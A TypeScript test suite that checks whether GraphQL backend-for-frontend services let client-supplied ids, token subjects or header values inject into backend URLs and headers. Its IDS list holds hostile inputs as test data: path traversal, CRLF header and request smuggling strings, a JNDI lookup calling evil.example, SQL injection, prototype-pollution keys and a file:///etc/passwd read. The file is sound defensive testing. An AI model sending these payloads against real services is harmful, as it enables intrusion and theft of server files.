import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { importJWK, SignJWT } from 'jose';
import { DEMO_KEY } from '../../services/support/demo-key.ts';
import { DEMO_AUDIENCE, DEMO_ISSUER } from '../../services/support/tokens.ts';
import { isUserId } from '../../src/user-id.ts';
import { type Environment, startEnvironment, type TestViewer } from '../support/environment.ts';
import { BFFS, USER_ID } from './bffs.ts';
import { jsonPost, send } from './http-client.ts';
import { isFull } from './mode.ts';
import { assertErrorFormat } from './responses.ts';
import { samplesOf } from './schema-samples.ts';

/** Ids that would change a URL or a header if they were inserted as they are. */
const IDS = [
  '../admin',
  '..',
  '.',
  './',
  '/',
  '//',
  '//evil.example/',
  '..\\admin',
  '\\',
  '\\\\evil.example\\share',
  '%2e%2e',
  '%2e%2e%2fadmin',
  '%252e%252e%252fadmin',
  '..%2fadmin',
  '..;/admin',
  '\u2025/admin',
  '\uff0e\uff0e\uff0fadmin',
  '%c0%ae%c0%ae%c0%afadmin',
  '42/../../admin',
  '42?role=staff',
  '42&user=31337',
  '42#',
  '42;user=31337',
  '42,1',
  '42 ',
  ' 42',
  '42\n',
  '42\r\nx-injected: 1',
  '42\r\n\r\nGET /admin HTTP/1.1\r\n\r\n',
  '42\0',
  '\0',
  '42%00',
  '42%0d%0ax-injected:%201',
  '４２',
  '42\u202e',
  '😀',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a template engine
  '${jndi:ldap://evil.example/a}',
  "' OR 1=1 --",
  '__proto__',
  'constructor',
  '*',
  '@evil.example',
  ':@evil.example:80/',
  'http://evil.example/',
  'file:///etc/passwd',
  'x'.repeat(5_000),
  '9'.repeat(400),
  '',
];

/** Values that no parameter of a call may have: they occur in IDS after a separator only. */
const INJECTED_VALUES = ['staff', '31337'];
const HEADER_VALUES = [
  '../admin',
  '00-../..',
  'de\t../',
  '*',
  '42?x=1',
  'x'.repeat(4_000),
  '\u00e9',
];

for (const bff of BFFS) {
  describe(`Text from clients of the ${bff.name} BFF`, () => {
    const { lookup, textPositions, privateQuery } = samplesOf(bff);
    const besideKnownId = {
      name: `${lookup.field} twice`,
      query: `query ($a: ID!) { known: ${lookup.select()} unknown: ${lookup.select('$a')} }`,
    };
    let environment: Environment;
    before(async () => {
      environment = await startEnvironment(bff);
    });
    after(() => environment[Symbol.asyncDispose]());

    for (const [index, { name, query }] of [...textPositions, besideKnownId].entries()) {
      it(`injects nothing into calls of the services as ${name}`, async () => {
        // The short mode tries each id in an eighth of the positions.
        for (const id of IDS.filter((_, n) => isFull || n % 8 === index % 8)) {
          for (const viewer of isFull ? [USER_ID, 'staff'] : ['staff']) {
            await attack(query, id, viewer);
          }
        }
      });
    }

    async function attack(query: string, id: string, as: TestViewer) {
      environment.reset();
      const { status, body } = await environment.send(query, { as, variables: { a: id } });
      const what = `${JSON.stringify(id.slice(0, 60))}: ${status} ${JSON.stringify(body)}`;
      assert.ok(status < 500, what);
      assert.doesNotMatch(JSON.stringify(body), /"INTERNAL_SERVER_ERROR"/, what);
      assertNothingInjected(environment, id);
    }

    it('is rejected as the subject of a token, or stays one value in calls of the services', async () => {
      for (const sub of IDS) {
        environment.reset();
        const headers = { authorization: `Bearer ${await tokenFor(sub)}` };
        const response = await send(
          jsonPost(environment.endpoint, { query: privateQuery }, headers),
        );
        const what = JSON.stringify(sub.slice(0, 60));
        assert.equal(response.status === 401, !isUserId(sub), what);
        if (response.status === 401) {
          assertErrorFormat(response, sub);
          assert.deepEqual(environment.calls(), []);
        }
        assertNothingInjected(environment, sub);
      }
    });

    it('in request headers does not reach the services unless it is valid', async () => {
      for (const value of HEADER_VALUES) {
        environment.reset();
        const { status } = await environment.send(`{ ${lookup.select()} }`, {
          headers: {
            'accept-language': value,
            traceparent: value,
            'x-request-id': value,
            'x-viewer': value,
            'x-forwarded-host': value,
          },
        });
        assert.ok(status < 500, value);
        for (const { headers } of environment.calls()) {
          const forwarded = Object.entries(headers).filter(([, sent]) => sent === value);
          assert.deepEqual(forwarded, [], JSON.stringify(value.slice(0, 60)));
        }
      }
    });
  });
}

/** Asserts that the services received only their own URLs, with the id encoded in its place. */
function assertNothingInjected(environment: Environment, id: string): void {
  for (const { operation, url, headers } of environment.calls()) {
    const what = `${JSON.stringify(id.slice(0, 60))} becomes ${url.slice(0, 200)}`;
    assert.notEqual(operation, 'unmatched', what);
    const [path = '', search = ''] = url.split('?');
    for (const segment of path.split('/').slice(1)) {
      const decoded = decodeURIComponent(segment);
      assert.ok(decoded === id || /^[\w-]+$/.test(decoded), what);
      assert.ok(decoded !== '.' && decoded !== '..', what);
    }
    const parameters = [...new URLSearchParams(search)];
    const names = parameters.map(([name]) => name);
    assert.deepEqual([...new Set(names)], names, what);
    for (const [name, value] of parameters) {
      assert.match(name, /^\w+$/, what);
      assert.ok(!INJECTED_VALUES.includes(value), what);
    }
    assert.doesNotMatch(url, /[\s\\\0\u0080-\uffff]/, what);
    assert.equal(headers['x-injected'], undefined, what);
  }
}

/** A token that is valid except for its subject. */
async function tokenFor(sub: string): Promise<string> {
  return new SignJWT({ role: 'customer' })
    .setProtectedHeader({ alg: 'ES256', kid: DEMO_KEY.kid })
    .setIssuer(DEMO_ISSUER)
    .setAudience(DEMO_AUDIENCE)
    .setSubject(sub)
    .setExpirationTime('10m')
    .sign(await importJWK(DEMO_KEY, 'ES256'));
}
